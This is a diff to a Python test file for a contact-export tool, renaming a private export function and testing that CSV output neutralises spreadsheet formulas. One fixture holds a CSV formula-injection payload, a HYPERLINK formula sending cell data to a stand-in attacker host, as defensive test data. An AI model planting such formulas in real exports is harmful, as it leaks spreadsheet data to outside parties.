@@ -11,7 +11,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from sescontacts.bulk.exporter import _export_pages, export
+from sescontacts.bulk.exporter import export, export_pages
 from sescontacts.bulk.importer import run_import
 from sescontacts.bulk.report import ImportOptions
 from sescontacts.db import Database
@@ -63,7 +63,7 @@ def test_sqlite_path_writes_what_the_generic_path_writes(store: SqliteContactSto
     seed(store)
     fast, generic = io.BytesIO(), io.BytesIO()
     export(store, "source", ContactQuery(), fmt, fast)  # type: ignore[arg-type]
-    _export_pages(store, "source", ContactQuery(), fmt, generic)
+    export_pages(store, "source", ContactQuery(), fmt, generic)
     assert fast.getvalue() == generic.getvalue()
 
 
@@ -159,7 +159,7 @@ def test_cells_a_spreadsheet_runs_are_neutralised_and_reimport_exactly(
         store.create_contact("source", Contact(email, False, {}, lead + orjson.dumps(attrs).decode()))
     fast, generic = io.BytesIO(), io.BytesIO()
     export(store, "source", ContactQuery(), "csv", fast)
-    _export_pages(store, "source", ContactQuery(), "csv", generic)
+    export_pages(store, "source", ContactQuery(), "csv", generic)
     assert fast.getvalue() == generic.getvalue()
     for row in csv.reader(io.StringIO(fast.getvalue().decode(), newline="")):
         assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
@@ -174,7 +174,7 @@ def test_a_formula_in_attributes_is_exported_as_text(store: SqliteContactStore) 
     """AttributesData that is not an object (possible through the SES API), starting with ``=``."""
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     store.create_contact("source", Contact("=a@example.com", False, {}, formula))
-    for path in (export, _export_pages):
+    for path in (export, export_pages):
         out = io.BytesIO()
         path(store, "source", ContactQuery(), "csv", out)  # type: ignore[operator]
         assert (
